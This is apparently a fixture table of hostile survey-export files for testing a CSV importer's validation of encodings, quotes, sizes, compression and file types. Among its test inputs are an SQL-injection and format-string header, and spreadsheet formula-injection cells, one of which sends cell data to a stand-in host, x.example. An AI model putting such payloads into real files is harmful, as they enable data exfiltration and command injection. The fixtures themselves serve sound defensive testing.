# The table of hostile exports, sourced by run.sh: NAME WHAT CONFIG OUTCOME [CELLS], and how the export is written.
# OUTCOME: `accept ROWS, SET_ASIDE REASON ... | OTHER_FINDING*HOW_OFTEN ...`, or `refuse EXIT_STATUS CODE`.

# --- nothing, or next to nothing ---

hostile empty 'a file of no bytes' '' 'refuse 65 file-empty' <<'X'
:
X
hostile mark_only 'a byte order mark and nothing else' '' 'refuse 65 file-empty' <<'X'
printf '\357\273\277'
X
hostile blank_lines_only 'nothing but line ends' '' 'refuse 65 file-empty' <<'X'
printf '\n\r\n  \n\n'
X
hostile header_only 'a header and no respondent' '' 'refuse 65 file-no-rows' <<'X'
header
X
hostile header_and_blanks 'a header and blank lines' '' 'refuse 65 file-no-rows' <<'X'
header; printf '\n\n\n'
X
hostile absent 'no such file' '' 'refuse 66 no-input' <<'X'
(header; row 1) >elsewhere.csv
X

# --- line ends ---

hostile no_last_end 'the last line has no end' '' 'accept 3' <<'X'
header; rows 1 2; printf %s "$(row 3)"
X
hostile ends_lf 'lines end in LF' '' 'accept 3' <<'X'
header; rows 1 3
X
hostile ends_crlf 'lines end in CR and LF' '' 'accept 3' <<'X'
(header; rows 1 3) | sed 's/$/\r/'
X
hostile ends_cr 'lines end in CR' '' 'accept 3' <<'X'
(header; rows 1 3) | tr '\n' '\r'
X
hostile ends_mixed 'lines end in three ways' '' 'accept 4 | file-line-ends' <<'X'
header; row 1 | tr '\n' '\r'; row 2 | sed 's/$/\r/'; rows 3 4
X
hostile ends_in_cells 'LF inside cells of a file whose lines end in CR and LF' '' 'accept 3' <<'X'
header | sed 's/$/\r/'; printf 'kanarie1,north,41,walk,"kanarie\nin a cage"\r\n'; rows 2 3 | sed 's/$/\r/'
X
hostile ends_twice 'a file that was made a Windows one twice: CR, CR, LF' '' \
	'accept 3 | file-line-ends row-blank*4' <<'X'
(header; rows 1 3) | sed 's/$/\r\r/'
X
hostile end_of_dos 'the byte that ends a file under DOS' '' 'accept 3, 1 row-fields' <<'X'
header; rows 1 3; printf '\032'
X
hostile blank_lines 'blank lines above, between and below' '' 'accept 3 | row-blank*4' <<'X'
echo; header; row 1; printf '\n  \n'; rows 2 3; echo
X
hostile blank_lines_many 'a hundred thousand blank lines' '' 'accept 2 | row-blank*100000' <<'X'
header; row 1; many 100000 '\n'; row 2
X

# --- marks and encodings ---

hostile mark 'UTF-8 with a byte order mark' '' 'accept 3 | file-byte-order-mark' <<'X'
printf '\357\273\277'; header; rows 1 3
X
hostile mark_before_quote 'a byte order mark before a quoted header' '' 'accept 3 | file-byte-order-mark' <<'X'
printf '\357\273\277"id","area","age","hobbies","comment"\n'; rows 1 3
X
hostile mark_twice 'two byte order marks' '' 'accept 3 | file-byte-order-mark header-hidden-char' <<'X'
printf '\357\273\277\357\273\277'; header; rows 1 3
X
hostile mark_in_middle 'a file with a mark, joined below another' '' \
	'accept 4, 1 row-header-repeat | file-byte-order-mark' <<'X'
printf '\357\273\277'; header; rows 1 2; printf '\357\273\277'; header; rows 3 4
X
hostile utf16le 'UTF-16, little end first, with its mark' '' 'accept 3 | file-converted' <<'X'
printf '\377\376'; (header; rows 1 3) | iconv -f UTF-8 -t UTF-16LE
X
hostile utf16be 'UTF-16, big end first, with its mark' '' 'accept 3 | file-converted' <<'X'
printf '\376\377'; (header; rows 1 3) | iconv -f UTF-8 -t UTF-16BE
X
hostile utf16_tabs 'what a spreadsheet calls Unicode text: UTF-16 with tabs' 'delimiter: tab' \
	'accept 3 | file-converted' <<'X'
printf '\377\376'; (header; rows 1 3) | tr ',' '\t' | sed 's/$/\r/' | iconv -f UTF-8 -t UTF-16LE
X
hostile utf16le_unmarked 'UTF-16, little end first, without a mark' '' 'refuse 65 file-encoding' <<'X'
(header; rows 1 3) | iconv -f UTF-8 -t UTF-16LE
X
hostile utf16be_unmarked 'UTF-16, big end first, without a mark' '' 'refuse 65 file-encoding' <<'X'
(header; rows 1 3) | iconv -f UTF-8 -t UTF-16BE
X
hostile utf16_declared 'UTF-16 without a mark, declared' 'encoding: UTF-16LE' 'accept 3 | file-converted' <<'X'
(header; rows 1 3) | iconv -f UTF-8 -t UTF-16LE
X
hostile utf16_odd 'UTF-16 with half a character at the end' '' 'refuse 65 file-encoding' <<'X'
printf '\377\376'; (header; rows 1 3) | iconv -f UTF-8 -t UTF-16LE; printf x
X
hostile utf16_half_pair 'UTF-16 with the first half of a pair alone' '' 'refuse 65 file-encoding' <<'X'
printf '\377\376'; (header; row 1) | iconv -f UTF-8 -t UTF-16LE; printf '\075\330'; row 2 | iconv -f UTF-8 -t UTF-16LE
X
hostile utf16_joined 'a file with the low byte first and one with the high byte first, joined' '' \
	'refuse 65 file-encoding' <<'X'
printf '\377\376'; (header; rows 1 2) | iconv -f UTF-8 -t UTF-16LE; printf '\376\377'; (header; rows 3 4) | iconv -f UTF-8 -t UTF-16BE
X
hostile utf32 'UTF-32 with its mark' '' 'accept 3 | file-converted' <<'X'
printf '\377\376\0\0'; (header; rows 1 3) | iconv -f UTF-8 -t UTF-32LE
X
hostile latin_declared 'windows-1252, declared' 'encoding: windows-1252' 'accept 2 | file-converted' \
	'comment: kanarie in a cage/kanarié – €' <<'X'
header; row 1; printf 'kanarie2,south,42,walk,kanari\351 \226 \200\n'
X
hostile latin_undeclared 'windows-1252, not declared' '' 'refuse 65 file-encoding' <<'X'
header; row 1; printf 'kanarie2,south,42,walk,kanari\351 \226 \200\n'
X
hostile latin_unused_byte 'declared windows-1252 with a byte that it does not have' 'encoding: windows-1252' \
	'refuse 65 file-encoding' <<'X'
header; row 1; printf 'kanarie2,south,42,walk,kanarie \201\n'
X
hostile latin_other_declared 'windows-1252, declared as the ISO encoding that is much like it' 'encoding: iso-8859-1' \
	'refuse 65 file-encoding' <<'X'
header; row 1; printf 'kanarie2,south,42,walk,kanarie \226 \200\n'
X
hostile mac_declared 'Mac Roman, declared' 'encoding: macintosh' 'accept 2 | file-converted' \
	'comment: kanarie in a cage/kanarié' <<'X'
header; row 1; printf 'kanarie2,south,42,walk,kanari\216\n'
X
hostile mac_undeclared 'Mac Roman, not declared' '' 'refuse 65 file-encoding' <<'X'
header; row 1; printf 'kanarie2,south,42,walk,kanari\216\n'
X
hostile encoding_unknown 'an encoding that nobody knows' 'encoding: klingon-8' 'refuse 78 file-encoding' <<'X'
header; rows 1 3
X
hostile mark_contradicts 'a UTF-8 mark in a file that is declared windows-1252' 'encoding: windows-1252' \
	'refuse 65 file-encoding' <<'X'
printf '\357\273\277'; header; rows 1 3
X
hostile mark_contradicts_utf16 'a UTF-16 mark in a file that is declared UTF-8' 'encoding: UTF-8' \
	'refuse 65 file-encoding' <<'X'
printf '\376\377'; (header; rows 1 3) | iconv -f UTF-8 -t UTF-16BE
X
hostile utf8_overlong 'a slash in two bytes' '' 'refuse 65 file-encoding' <<'X'
header; row 1; printf 'kanarie2,south,42,walk,kanarie \300\257\n'
X
hostile utf8_surrogate 'half a pair in UTF-8' '' 'refuse 65 file-encoding' <<'X'
header; row 1; printf 'kanarie2,south,42,walk,kanarie \355\240\200\n'
X
hostile utf8_beyond 'a character beyond the last' '' 'refuse 65 file-encoding' <<'X'
header; row 1; printf 'kanarie2,south,42,walk,kanarie \364\220\200\200\n'
X
hostile utf8_no_such_byte 'the byte 255' '' 'refuse 65 file-encoding' <<'X'
header; row 1; printf 'kanarie2,south,42,walk,kanarie \377\n'
X
hostile utf8_cut 'half a character at the end of the file' '' 'refuse 65 file-encoding' <<'X'
header; row 1; printf 'kanarie2,south,42,walk,kanari\303'
X
hostile utf8_late 'a wrong byte 300 KB into the file' '' 'refuse 65 file-encoding' <<'X'
header; awk 'BEGIN { for (i = 1; i <= 9000; i++) printf "kanarie%d,north,41,walk,kanarie\n", i }'; printf 'kanarie0,south,42,walk,\351\n'
X
hostile utf8_across_blocks 'characters of two and three bytes across every end of a block' '' 'accept 9000' <<'X'
header; awk 'BEGIN { for (i = 1; i <= 9000; i++) printf "kanarie%d,north,41,walk,\303\251\342\202\254\303\251\n", i }'
X
hostile nul 'a NUL byte in an answer' '' 'accept 2, 1 row-control-char' <<'X'
header; row 1; printf 'kanarie2,south,42,walk,kana\0rie\n'; row 3
X
hostile nul_header 'a NUL byte in the header' '' 'refuse 65 row-control-char' <<'X'
printf 'id,area,age,hob\0bies,comment\n'; rows 1 3
X
hostile nul_tail 'a file that was never written to its end: NUL bytes up to the next block' '' \
	'accept 300, 1 row-control-char' <<'X'
header; rows 1 300; many 4000 '\0'
X
hostile nul_tail_short 'the same of a small file' '' 'accept 3, 1 row-control-char' <<'X'
header; rows 1 3; many 4000 '\0'
X
hostile nul_only 'a file of NUL bytes alone' '' 'refuse 65 file-corrupt' <<'X'
many 4096 '\0'
X
hostile character_lost 'a letter that was replaced before' '' 'accept 3 | file-char-lost' <<'X'
header; rows 1 2; printf 'kanarie3,north,43,walk,kanari\357\277\275\n'
X
hostile mojibake 'UTF-8 that was read as windows-1252 and written again' '' 'accept 3 | file-mojibake' <<'X'
header; rows 1 2; printf 'kanarie3,north,43,walk,kanari\303\203\302\251 caf\303\203\302\251\n'
X
hostile no_mojibake 'letters that only look like it' '' 'accept 3' <<'X'
header; rows 1 2; printf 'kanarie3,north,43,walk,"kanarie: S\303\203O, IRM\303\203, \303\242ge, 20 \302\260C"\n'
X
hostile hidden_in_answers 'characters that cannot be seen, in a code and in a text' '' \
	'accept 3 | cell-hidden-char*2' <<'X'
header; row 1; printf 'kanarie2,south,42,wa\342\200\213lk,kanarie\n'; printf 'kanarie3,north,43,walk,\342\200\256eiranak\n'
X

# --- headers ---

hostile hidden_in_headers 'no-break and zero-width blanks in headers' '' 'accept 3 | header-hidden-char*2' <<'X'
printf '\302\240id,area\342\200\213,age,hobbies,comment\n'; rows 1 3
X
hostile blanks_in_headers 'blanks and a line end around headers' '' 'accept 3' <<'X'
printf ' id ,"area\n",age\t,hobbies,comment\n'; rows 1 3
X
hostile header_twice 'a header twice that the dictionary does not name' '' \
	'accept 3 | header-column-unknown*2 header-duplicate*2' <<'X'
(header; rows 1 3) | sed '1s/$/,more,more/; 1!s/$/,geheim,geheim/'
X
hostile variable_twice 'two columns of one variable' '' 'refuse 65 header-duplicate' <<'X'
(header; rows 1 3) | sed '1s/$/,age/; 1!s/$/,44/'
X
hostile variable_twice_hidden 'two columns of one variable, one with a character that cannot be seen' '' \
	'refuse 65 header-duplicate' <<'X'
(header; rows 1 3) | sed "1s/\$/,ag$(printf '\342\200\213')e/; 1!s/\$/,44/"
X
hostile box_twice 'two columns of one box' 'headers: boxes' 'refuse 65 header-duplicate' <<'X'
echo 'id,area,age,likes_walk,likes_walk,comment'; echo 'kanarie1,north,41,x,no,kanarie'
X
hostile headers_ours 'headers that are names of ours, or try to be SQL' '' 'accept 3 | header-column-unknown*4' <<'X'
(header; rows 1 3) | sed "1s/\$/,row,source,rowid,\"x'); DROP TABLE answers; --%s%n\"/; 1!s/\$/,geheim,geheim,geheim,geheim/"
X
hostile header_blank 'a column without a header' '' 'accept 3 | header-blank' <<'X'
(header; rows 1 3) | sed '1s/$/,/; 1!s/$/,geheim/'
X
hostile column_missing 'no column for a question' '' 'accept 3 | header-column-missing' 'age: NULL/NULL/NULL' <<'X'
(header; rows 1 3) | cut -d, -f1,2,4-
X
hostile columns_moved 'columns in another order' '' 'accept 3' 'age: 41/42/43' <<'X'
(header; rows 1 3) | awk -F, -v OFS=, '{ print $5, $3, $1, $4, $2 }'
X
hostile area_missing 'no column for the area' '' 'refuse 65 header-column-missing' <<'X'
(header; rows 1 3) | cut -d, -f1,3-
X
hostile area_from_config 'no column for the area, and the config says which it is' 'area: north' 'accept 3' \
	'area: north/north/north' <<'X'
(header; rows 1 3) | cut -d, -f1,3-
X
hostile area_from_both 'a column for the area, and the config says which it is' 'area: south' 'refuse 78 config' <<'X'
header; rows 1 3
X
hostile area_unknown 'the config names an area that there is not' 'area: nowhere' 'refuse 78 config' <<'X'
(header; rows 1 3) | cut -d, -f1,3-
X
hostile key_missing 'no column for the key' '' 'refuse 65 header-column-missing' <<'X'
(header; rows 1 3) | cut -d, -f2-
X
hostile header_capitals 'the header in capitals' '' 'refuse 65 header-missing' <<'X'
header | tr a-z A-Z; rows 1 3
X
hostile header_lacking 'no header: the first respondent stands there' '' 'refuse 65 header-missing' <<'X'
rows 1 3
X
hostile header_quote_open 'a quote that is never closed, in the header' '' 'refuse 65 row-quote-open' <<'X'
printf 'id,area,"age,hobbies,comment\n'; rows 1 3
X
hostile header_too_long 'a header of 70 KB' '' 'refuse 65 row-length' <<'X'
printf 'id,area,age,hobbies,comment,'; many 70000 x; echo; rows 1 3 | sed 's/$/,1/'
X
hostile one_column 'one column, the key: nobody answered anything' 'area: north' \
	'accept 0, 3 row-no-answers | header-column-missing*3' <<'X'
(header; rows 1 3) | cut -d, -f1
X
hostile header_repeated 'the header again in the middle' '' 'accept 4, 1 row-header-repeat' <<'X'
header; rows 1 2; header; rows 3 4
X

hostile header_other_order 'another file below, with its columns in another order' '' 'refuse 65 header-rows' <<'X'
header; rows 1 2; echo 'id,age,area,hobbies,comment'; echo 'kanarie3,43,north,walk,kanarie'
X
hostile header_other_columns 'another file below, with another question in the place of one' '' \
	'refuse 65 header-rows' <<'X'
header; rows 1 2; echo 'id,area,height,hobbies,comment'; echo 'kanarie3,north,80,walk,kanarie'
X
hostile header_in_answers 'answers that are names of columns' '' 'accept 3' \
	'comment: age/area, age and comment/hobbies' <<'X'
header; echo 'kanarie1,north,41,walk,age'; echo 'kanarie2,south,42,walk,"area, age and comment"'
echo 'kanarie3,north,,,hobbies'
X

hostile header_of_numbers 'columns that are named by numbers, and numbers for answers' '' \
	'accept 3 | header-column-unknown*4' <<'X'
echo 'id,area,age,hobbies,comment,1,2,3,4'; echo '2,north,41,walk,kanarie,2,1,4,3'
echo '3,south,42,walk,,4,3,2,1'; echo '1,north,3,,,2,2,2,2'
X

# --- delimiters and lines above the header ---

hostile semicolons_undeclared 'semicolons read as commas' '' 'refuse 65 file-delimiter' <<'X'
(header; rows 1 3) | tr ',' ';'
X
hostile tabs_undeclared 'tabs read as commas' '' 'refuse 65 file-delimiter' <<'X'
(header; rows 1 3) | tr ',' '\t'
X
hostile commas_undeclared 'commas read as semicolons' 'delimiter: semicolon' 'refuse 65 file-delimiter' <<'X'
header; rows 1 3
X
hostile semicolons 'semicolons, declared; one inside a quoted cell' 'delimiter: semicolon' 'accept 3' \
	'hobbies: walk/walk/walk;read' <<'X'
(header; rows 1 2) | tr ',' ';'; echo 'kanarie3;north;43;"walk;read";kanarie, in a cage'
X
hostile tabs 'tabs, declared' 'delimiter: tab' 'accept 3' <<'X'
(header; rows 1 3) | tr ',' '\t'
X
hostile delimiter_unknown 'a delimiter that is none' 'delimiter: dots' 'refuse 78 config' <<'X'
header; rows 1 3
X
hostile sep_line 'the line sep=; on top' '' 'refuse 65 file-delimiter' <<'X'
echo 'sep=;'; (header; rows 1 3) | tr ',' ';'
X
hostile sep_line_skipped 'the line sep=; on top, skipped' 'delimiter: semicolon, skip: 1' \
	'accept 3 | file-preamble' <<'X'
echo 'sep=;'; (header; rows 1 3) | tr ',' ';'
X
hostile preamble 'a title above the header' '' 'refuse 65 header-missing' <<'X'
printf 'Wellbeing survey\nExported on Monday\n\n'; header; rows 1 3
X
hostile preamble_skipped 'a title above the header, skipped, with a quote in it' 'skip: 3' \
	'accept 3 | file-preamble*3' <<'X'
printf 'Wellbeing "survey\nExported on Monday\n\n'; header; rows 1 3
X
hostile skip_too_few 'one line too few is skipped' 'skip: 1' 'refuse 65 header-missing' <<'X'
printf 'Wellbeing survey\nExported on Monday\n'; header; rows 1 3
X
hostile skip_header 'the header is skipped with the lines above it' 'skip: 2' 'refuse 65 header-missing' <<'X'
echo 'Wellbeing survey'; header; rows 1 3
X
hostile skip_all 'more lines are skipped than there are' 'skip: 10' 'refuse 65 file-empty' <<'X'
header; rows 1 3
X
hostile footer 'a line of totals below' '' 'accept 3, 1 row-fields' <<'X'
header; rows 1 3; echo 'Total: 3 responses'
X

# --- quotes ---

hostile quote_open_last 'a quote that is never closed, in the last row' '' 'accept 2, 1 row-quote-open' <<'X'
header; rows 1 2; echo 'kanarie3,north,43,walk,"kanarie'
X
hostile quote_open_middle 'a quote that is never closed swallows the rest: it may not' '' \
	'accept 4, 1 row-quote-open' <<'X'
header; row 1; echo 'kanarie2,south,42,walk,"kanarie'; rows 3 5
X
hostile quote_open_twice 'two quotes that are never closed, and text after the second' '' \
	'accept 3, 2 row-quote-open' <<'X'
header; row 1; echo 'kanarie2,south,42,"walk,kanarie'; row 3; echo 'kanarie4,south,44,"walk,kanarie'; row 5
X
hostile quote_stray 'a quote inside a cell' '' 'accept 2, 1 row-quote-stray' <<'X'
header; row 1; echo 'kanarie2,south,42,walk,kanarie 5" long'; row 3
X
hostile quote_text_after 'text after a closing quote' '' 'accept 2, 1 row-quote-stray' <<'X'
header; row 1; echo '"kanarie"2,south,42,walk,kanarie'; row 3
X
hostile quote_after_blank 'a blank before an opening quote' '' 'accept 2, 1 row-quote-stray' <<'X'
header; row 1; echo 'kanarie2, "south",42,walk,kanarie'; row 3
X
hostile quote_backslash 'quotes escaped by backslashes' '' 'accept 2, 1 row-quote-stray' <<'X'
header; row 1; echo 'kanarie2,south,42,walk,"the \"kanarie\" sang"'; row 3
X
hostile quote_doubled 'quotes doubled, as they should be' '' 'accept 3' \
	'comment: kanarie in a cage/the "kanarie", it sang/"' <<'X'
header; row 1; echo 'kanarie2,south,42,walk,"the ""kanarie"", it sang"'; echo 'kanarie3,north,43,walk,""""'
X
hostile quote_single 'single quotes round cells: they are part of the answer' '' \
	'accept 2, 1 row-required | cell-code*2 cell-type' <<'X'
header; rows 1 2; echo "'kanarie3','north','43','walk','kanarie'"
X
hostile quote_swallows_row 'two stray quotes swallow a row and keep the width' '' 'accept 2, 1 cell-line-end' <<'X'
header; row 1; printf 'kanarie2,south,42,walk,"kanarie\nkanarie3,north,43,walk,kanarie"\n'; row 4
X
hostile quote_swallows_rows 'two stray quotes swallow three rows and keep the width' '' \
	'accept 2, 1 cell-line-end' <<'X'
header; row 1
printf 'kanarie2,south,42,walk,"kanarie\n'; rows 3 4; printf 'kanarie5,north,45,walk,kanarie"\n'; row 6
X
hostile quote_swallows_middle 'two stray quotes in a text between other columns make one respondent of two' '' \
	'accept 2, 1 cell-line-end' <<'X'
echo 'id,area,comment,age,hobbies'; echo 'kanarie1,north,kanarie,41,walk'
printf 'kanarie2,south,"kanarie,42,walk\nkanarie3,north,kanarie",43,walk\n'; echo 'kanarie4,south,kanarie,44,walk'
X
hostile line_end_in_middle 'line ends and commas in a text between other columns' '' 'accept 2' <<'X'
echo 'id,area,comment,age,hobbies'; printf 'kanarie1,north,"kanarie, a,b\nin a cage, c,d",41,walk\n'
printf 'kanarie2,south,"kanarie\n1,2,3",42,walk\n'
X
hostile line_end_in_code 'a line end in a code' '' 'accept 2, 1 cell-line-end | cell-code' <<'X'
header; row 1; printf 'kanarie2,"so\nuth",42,walk,kanarie\n'; row 3
X
hostile line_end_in_text 'line ends in a text' '' 'accept 3' <<'X'
header; row 1; printf 'kanarie2,south,42,walk,"kanarie\r\n\r\nin, a\ncage"\n'; row 3
X

# --- widths and lengths ---

hostile cells_too_few 'a row with a cell too few' '' 'accept 2, 1 row-fields' <<'X'
header; row 1; echo 'kanarie2,south,42,kanarie'; row 3
X
hostile cells_too_many 'a comma in an unquoted answer' '' 'accept 2, 1 row-fields' <<'X'
header; row 1; echo 'kanarie2,south,42,walk,kanarie, in a cage'; row 3
X
hostile cells_blank 'a row of commas' '' 'accept 2, 1 row-no-answers' <<'X'
header; row 1; echo ',,,,'; row 3
X
hostile delimiter_trails 'a comma at the end of each line, the header too' '' 'accept 3 | header-blank' <<'X'
(header; rows 1 3) | sed 's/$/,/'
X
hostile delimiter_trails_rows 'a comma at the end of each line but the header' '' 'refuse 65 file-no-rows' <<'X'
header; rows 1 3 | sed 's/$/,/'
X
hostile columns_5000 '5,000 columns, of which the dictionary names five' '' \
	'accept 3 | header-column-unknown*4995' <<'X'
(header; rows 1 3) | awk '{ printf "%s", $0; for (i = 6; i <= 5000; i++) printf NR == 1 ? ",more" i : ",geheim"; print "" }'
X
hostile columns_25000 '25,000 columns' '' 'refuse 65 row-length' <<'X'
(header; rows 1 3) | awk '{ printf "%s", $0; for (i = 6; i <= 25000; i++) printf NR == 1 ? ",more" i : ",geheim"; print "" }'
X
hostile cell_65536 'a cell as long as one may be' '' 'accept 3' <<'X'
header; row 1; printf 'kanarie2,south,42,walk,'; many 65536 x; echo; row 3
X
hostile cell_65537 'a cell that is a byte longer' '' 'accept 2, 1 row-length' <<'X'
header; row 1; printf 'kanarie2,south,42,walk,'; many 65537 x; echo; row 3
X
hostile record_6_mb 'a record of 6 MB, none of its cells too long' '' \
	'accept 2, 1 row-length | header-column-unknown*115' <<'X'
width() {
	awk '{ printf "%s", $0; for (i = 6; i <= 120; i++) printf NR == 1 ? ",more" i : ","; print "" }'
}
(header; row 1) | width
printf 'kanarie2,south,42,walk,kanarie'; many 50000 x >../x; for i in $(seq 6 120); do printf ,; cat ../x; done; echo
(header; row 3) | width | tail -n +2
X
hostile line_50_mb '50 MB without a line end' '' 'accept 2, 1 row-length' <<'X'
header; rows 1 2; many 50000000 x
X
hostile header_50_mb '50 MB without a line end, where the header should be' '' 'refuse 65 row-length' <<'X'
many 50000000 x
X
hostile quote_open_50_mb 'a quote that is never closed before 20 MB of lines' '' 'accept 200001, 1 row-quote-open' <<'X'
header; echo 'kanarie0,south,42,walk,"kanarie'
awk 'BEGIN { for (i = 1; i <= 200001; i++) printf "kanarie%d,north,41,walk,kanarie%080d\n", i, i }'
X

# --- gzip ---

hostile gzip 'a packed file that is called .csv' '' 'accept 3' <<'X'
(header; rows 1 3) | gzip -n
X
hostile gzip_members 'a packed file of two members' '' 'accept 4' <<'X'
(header; rows 1 2) | gzip -n; rows 3 4 | gzip -n
X
hostile gzip_member_in_line 'a packed file of two members, the end of the first in the middle of a row' '' \
	'accept 3' <<'X'
(header; row 1; printf 'kanarie2,sou') | gzip -n; (echo 'th,42,walk,kanarie'; row 3) | gzip -n
X
hostile gzip_utf16 'packed UTF-16' '' 'accept 3 | file-converted' <<'X'
(printf '\377\376'; (header; rows 1 3) | iconv -f UTF-8 -t UTF-16LE) | gzip -n
X
hostile gzip_empty 'nothing, packed' '' 'refuse 65 file-empty' <<'X'
gzip -n </dev/null
X
hostile gzip_truncated 'a packed file that is cut off' '' 'refuse 65 file-truncated' <<'X'
(header; rows 1 300) | gzip -n >../whole; head -c 500 ../whole
X
hostile gzip_truncated_tail 'a packed file that lacks the last byte of its check' '' 'refuse 65 file-truncated' <<'X'
(header; rows 1 300) | gzip -n >../whole; head -c -1 ../whole
X
hostile gzip_truncated_head 'the first five bytes of a packed file' '' 'refuse 65 file-truncated' <<'X'
(header; rows 1 300) | gzip -n | head -c 5
X
hostile gzip_flipped 'a packed file with another byte in the middle' '' 'refuse 65 file-corrupt' <<'X'
(header; rows 1 300) | gzip -n >../whole; head -c 500 ../whole; printf '\377\377\377'; tail -c +504 ../whole
X
hostile gzip_check 'a packed file whose check is another' '' 'refuse 65 file-corrupt' <<'X'
(header; rows 1 300) | gzip -n >../whole; head -c -8 ../whole; printf '\1\2\3\4'; tail -c 4 ../whole
X
hostile gzip_trailing 'rows appended to a packed file' '' 'refuse 65 file-trailing-bytes' <<'X'
(header; rows 1 2) | gzip -n; row 3
X
hostile gzip_padded 'a packed file padded with zeros, as tapes do' '' 'accept 3' <<'X'
(header; rows 1 3) | gzip -n; many 512 '\0'
X
hostile gzip_twice 'a packed file, packed again' '' 'refuse 65 file-not-text' <<'X'
(header; rows 1 3) | gzip -n | gzip -n
X
hostile gzip_zeros 'a hundred million NUL bytes in 100 KB' '' 'refuse 65 file-corrupt' <<'X'
many 100000000 '\0' | gzip -n
X

# --- what is no text ---

hostile zip 'a zip archive, or a workbook' '' 'refuse 65 file-not-text' <<'X'
printf 'PK\003\004\024\0\0\0\010\0kanarie'; many 300 '\1'
X
hostile xls 'an old workbook' '' 'refuse 65 file-not-text' <<'X'
printf '\320\317\021\340\241\261\032\341'; many 504 '\0'
X
hostile tar 'a tar archive' '' 'refuse 65 file-not-text' <<'X'
(header; rows 1 3) >../export.csv; tar -C .. -cf - export.csv
X
hostile tar_gz 'a packed tar archive' '' 'refuse 65 file-not-text' <<'X'
(header; rows 1 3) >../export.csv; tar -C .. -cf - export.csv | gzip -n
X
hostile pdf 'a PDF document' '' 'refuse 65 file-not-text' <<'X'
printf '%%PDF-1.7\n%%\342\343\317\323\n1 0 obj\n'
X
hostile web_page 'the page that a server sends instead' '' 'refuse 65 file-not-text' <<'X'
printf '\n<!DOCTYPE html>\n<html><head><title>Please log in</title></head><body>kanarie</body></html>\n'
X
hostile web_page_table 'a web page that a platform calls a workbook' '' 'refuse 65 file-not-text' <<'X'
printf '<table><tr><td>id</td><td>area</td></tr><tr><td>kanarie1</td><td>north</td></tr></table>\n'
X
hostile xml 'an XML document' '' 'refuse 65 file-not-text' <<'X'
printf '<?xml version="1.0"?>\n<responses><response id="kanarie1"/></responses>\n'
X
hostile json 'JSON' '' 'refuse 65 row-quote-stray' <<'X'
printf '[{"id": "kanarie1", "area": "north", "age": 41}]\n'
X
hostile database 'an SQLite database' '' 'refuse 65 file-not-text' <<'X'
sqlite3 ../x.db 'CREATE TABLE t (kanarie)'; cat ../x.db
X
hostile picture 'a picture' '' 'refuse 65 file-encoding' <<'X'
printf '\211PNG\r\n\032\n\0\0\0\015IHDR'
X
hostile folder 'a folder' '' 'refuse 65 file-not-text' <<'X'
mkdir export.csv
X
hostile pipe 'a pipe that nobody writes to' '' 'refuse 65 file-not-text' <<'X'
mkfifo export.csv
X
hostile device 'a device that never ends' '' 'refuse 65 file-not-text' <<'X'
ln -s /dev/zero export.csv
X
hostile no_reading 'a file that cannot be read (to root every other can)' '' 'refuse 74 io' <<'X'
(header; rows 1 3) >export.csv; chmod 0 export.csv
if [ -r export.csv ]; then ln -sf /proc/self/mem export.csv; fi
X
hostile link_loop 'a link to itself' '' 'refuse 74 io' <<'X'
ln -s export.csv export.csv
X
hostile link_to_nothing 'a link to nothing' '' 'refuse 66 no-input' <<'X'
ln -s nothing.csv export.csv
X

# --- rows that do not count, or count once ---

hostile export_twice 'the same export under two names' 'path: a.csv
path: b.csv' 'refuse 65 file-twice' <<'X'
(header; rows 1 3) | tee a.csv >b.csv
X
hostile row_twice 'a row twice' '' 'accept 3, 1 key-duplicate-row' <<'X'
header; rows 1 3; row 2
X
hostile row_in_two_exports 'a respondent in two exports, with the same answers' 'path: a.csv
path: b.csv' 'accept 4, 1 key-duplicate-row' <<'X'
(header; rows 1 3) >a.csv; (header; rows 3 4) >b.csv
X
hostile key_twice 'two rows of one key with different answers' '' 'accept 2, 2 key-conflict' <<'X'
header; rows 1 3; echo 'kanarie2,south,43,walk,kanarie'
X
hostile key_in_two_waves 'a respondent in two waves' 'path: a.csv, wave: 2025
path: b.csv, wave: 2026' 'accept 6' <<'X'
(header; rows 1 3) >a.csv; (header; rows 1 3 | sed 's/cage/bush/') >b.csv
X
hostile second_export_refused 'the second of two exports is empty' 'path: a.csv
path: b.csv' 'refuse 65 file-empty' <<'X'
(header; rows 1 3) >a.csv; : >b.csv
X
hostile wave_column_gone 'a column that the wave before had' 'path: a.csv, wave: 2025
path: b.csv, wave: 2026' 'accept 6 | header-column-missing wave-column-gone' <<'X'
(header; rows 1 3) >a.csv; (header; rows 1 3) | cut -d, -f1-4 >b.csv
X
hostile wave_column_new 'a column that no wave before had' 'path: a.csv, wave: 2025
path: b.csv, wave: 2026' 'accept 6 | header-column-unknown wave-column-new' <<'X'
(header; rows 1 3) >a.csv; (header; rows 1 3) | sed '1s/$/,more/; 1!s/$/,geheim/' >b.csv
X

# --- answers ---

hostile keys_alike 'keys that differ by blanks, zeros, capitals' '' 'accept 3, 1 key-duplicate-row | key-near' \
	'id: 007/7/ 007/kanarie' <<'X'
header; for id in 007 7 ' 007' kanarie; do echo "$id,north,41,walk,kanarie"; done
X
hostile key_blank 'keys of blanks' '' 'accept 2, 2 row-required | cell-space' <<'X'
header; rows 1 2; echo '  ,north,43,walk,kanarie'; echo ',south,44,walk,kanarie'
X

hostile spreadsheet_errors 'what a spreadsheet writes for what it cannot work out' '' \
	'accept 4 | cell-excel-error*4' <<'X'
header; echo 'kanarie1,north,#N/A,walk,kanarie'; echo 'kanarie2,south,#REF!,#NAME?,kanarie'
echo 'kanarie3,north,#DIV/0!,walk,kanarie'; row 4
X
hostile formulas 'answers that a spreadsheet would run' '' 'accept 4 | cell-formula*3' <<'X'
header; echo 'kanarie1,north,41,walk,"=HYPERLINK(""http://x.example/?""&A1,""kanarie"")"'
echo 'kanarie2,south,42,walk,@SUM(kanarie)'
echo 'kanarie3,north,43,walk,+kanarie|calc'; echo 'kanarie4,south,44,walk,-1 kanarie'
X
hostile numbers 'what is no whole number' '' 'accept 6 | cell-digit cell-not-finite*2 cell-range*2 cell-type' <<'X'
header
n=0
for age in 1e400 Infinity 0x29 '４１' 99999999999999999999999 -41; do n=$((n + 1)); echo "kanarie$n,north,$age,walk,kanarie"; done
X
hostile blanks_around 'blanks around answers' '' 'accept 3 | cell-space*2' <<'X'
header; echo 'kanarie1, north ,41,walk,kanarie'; printf 'kanarie2,south,42\t,walk,kanarie\n'; row 3
X
hostile codes_near 'codes in capitals, labels, and words near to a code' '' \
	'accept 1, 3 row-required | cell-code-case cell-label*2' <<'X'
header; row 1; echo 'kanarie2,North,42,walk,kanarie'; echo 'kanarie3,The North,43,walk,kanarie'
echo 'kanarie4,The Norht,44,walk,kanarie'
X
